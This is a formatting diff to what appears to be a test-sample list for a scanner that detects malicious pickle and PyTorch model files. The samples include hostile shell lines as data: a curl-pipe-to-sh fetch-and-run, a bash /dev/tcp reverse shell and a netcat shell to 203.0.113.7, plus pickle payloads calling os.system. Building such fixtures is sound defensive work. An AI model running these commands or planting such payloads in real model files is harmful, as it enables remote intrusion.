@@ -110,9 +110,19 @@ _WINDOWS = """
 _CURL = ["curl", "-s", "http://203.0.113.7/x"]
 
 _PLAIN = (
-    ("shell_pipe", "a shell that fetches and runs", call("posix", "system", "curl -s http://203.0.113.7/x | sh"), PROGRAM),
+    (
+        "shell_pipe",
+        "a shell that fetches and runs",
+        call("posix", "system", "curl -s http://203.0.113.7/x | sh"),
+        PROGRAM,
+    ),
     ("base64_shell", "a shell line that is base64", call("posix", "system", "echo aWQ= | base64 -d | sh"), PROGRAM),
-    ("python_one_liner", "another Python with code", call("subprocess", "check_output", ["python3", "-c", "1"]), PROGRAM),
+    (
+        "python_one_liner",
+        "another Python with code",
+        call("subprocess", "check_output", ["python3", "-c", "1"]),
+        PROGRAM,
+    ),
     ("curl", "the network through a child", call("subprocess", "run", _CURL), PROGRAM),
     ("bash_tcp", "bash's /dev/tcp", call("posix", "system", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"), PROGRAM),
     ("netcat", "netcat with a shell", call("posix", "system", "nc 203.0.113.7 4444 -e /bin/sh"), PROGRAM),
@@ -166,7 +176,13 @@ _HAND_MADE = (
     ("second_pickle", "the second of two pickles", stream({"a": 1}) + stream(SYSTEM), CALLED, PROGRAM),
     ("no_stop", "the stream ends without STOP", b"\x80\x04" + SYSTEM, f"{CALLED} reader.incomplete", PROGRAM),
     ("in_a_key", "the payload is a key of the model's dictionary", b"\x80\x04}" + SYSTEM + b"Ns.", CALLED, PROGRAM),
-    ("as_a_state", "the payload is an object's state", b"\x80\x04cargparse\nNamespace\n)\x81" + SYSTEM + b"b.", CALLED, PROGRAM),
+    (
+        "as_a_state",
+        "the payload is an object's state",
+        b"\x80\x04cargparse\nNamespace\n)\x81" + SYSTEM + b"b.",
+        CALLED,
+        PROGRAM,
+    ),
     ("as_a_pid", "the payload is a persistent id", b"\x80\x04" + SYSTEM + b"Q.", CALLED, PROGRAM),
 )
 
@@ -195,6 +211,15 @@ SAMPLES = (
         sample(f"within_{form}", technique, source, stream({"hook": SYSTEM}), CALLED, PROGRAM, form)
         for form, technique, source in _CONTAINERS
     ),
-    in_torch_zip("checkpoint_source", "source text in a PyTorch archive", _PUBLIC, run("import os; os.system('id')"), CALLED, PROGRAM),
-    in_torch_legacy("legacy_reduce", "a nested call in the old format", _PUBLIC, call("builtins", "print", SYSTEM), CALLED, PROGRAM),
+    in_torch_zip(
+        "checkpoint_source",
+        "source text in a PyTorch archive",
+        _PUBLIC,
+        run("import os; os.system('id')"),
+        CALLED,
+        PROGRAM,
+    ),
+    in_torch_legacy(
+        "legacy_reduce", "a nested call in the old format", _PUBLIC, call("builtins", "print", SYSTEM), CALLED, PROGRAM
+    ),
 )
